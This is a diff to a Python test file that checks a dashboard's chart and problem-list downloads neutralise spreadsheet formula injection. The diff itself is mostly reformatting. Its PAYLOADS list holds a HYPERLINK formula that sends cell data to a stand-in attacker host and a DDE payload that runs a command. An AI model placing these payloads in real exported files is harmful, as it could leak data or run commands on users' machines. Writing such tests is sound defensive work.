@@ -13,8 +13,27 @@ from dashboard import export, upload
 
 # A spreadsheet runs a cell as a formula when it starts with an operator, also after leading white space or a line
 # break, and some map the full-width forms onto the ASCII ones.
-STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", " ", "\u3000", "＝", "＋", "－", "＠",
-          " =", "\n=", "\t+", "\r\n@", "  -", "＝＝"]
+STARTS = [
+    "=",
+    "+",
+    "-",
+    "@",
+    "\t",
+    "\r",
+    "\n",
+    " ",
+    "\u3000",
+    "＝",
+    "＋",
+    "－",
+    "＠",
+    " =",
+    "\n=",
+    "\t+",
+    "\r\n@",
+    "  -",
+    "＝＝",
+]
 PAYLOADS = ["1+1", 'HYPERLINK("http://evil.example/?x="&A1)', "cmd|' /C calc'!A0", ""]
 SAFE = ["1,076억원", "광주 AI 집적단지", "F1", "'already quoted", "(2020)", "A=B", "x-1", "", "a\n=b"]
 DTYPES = [object, "string[pyarrow]", "string[python]", "str"]
@@ -48,10 +67,24 @@ def test_a_chart_download_neutralises_every_text_column(start):
     """The figure export (names, labels, notes, series, source, quote) as a chart's download button gets it."""
     hostile = start + "1+1"
     row = {
-        "figure_id": hostile, "hub_name_ko": hostile, "hub_name_en": hostile, "metric_label_ko": hostile,
-        "metric_label_en": hostile, "value": -5.0, "unit": "firms", "period_start": 2022, "period_end": 2022,
-        "period_start_month": None, "period_end_month": None, "kind": "actual", "scope_note": hostile,
-        "series": hostile, "publisher": hostile, "published": hostile, "url": hostile, "quote": hostile,
+        "figure_id": hostile,
+        "hub_name_ko": hostile,
+        "hub_name_en": hostile,
+        "metric_label_ko": hostile,
+        "metric_label_en": hostile,
+        "value": -5.0,
+        "unit": "firms",
+        "period_start": 2022,
+        "period_end": 2022,
+        "period_start_month": None,
+        "period_end_month": None,
+        "kind": "actual",
+        "scope_note": hostile,
+        "series": hostile,
+        "publisher": hostile,
+        "published": hostile,
+        "url": hostile,
+        "quote": hostile,
         "user_supplied": True,
     }
     for lang in ("ko", "en"):
@@ -77,5 +110,4 @@ def test_neutralise_single_cells(start):
 def test_the_upload_problems_download_neutralises_each_line(start):
     """The problems list starts each line with the uploaded file's name, which the uploader chose."""
     lines = upload.problems_file([f"{start}cmd.csv:2: figure_id is empty (required)", "ok.csv:3: fine"])
-    assert lines.decode("utf-8").splitlines() == [f"'{start}cmd.csv:2: figure_id is empty (required)",
-                                                  "ok.csv:3: fine"]
+    assert lines.decode("utf-8").splitlines() == [f"'{start}cmd.csv:2: figure_id is empty (required)", "ok.csv:3: fine"]
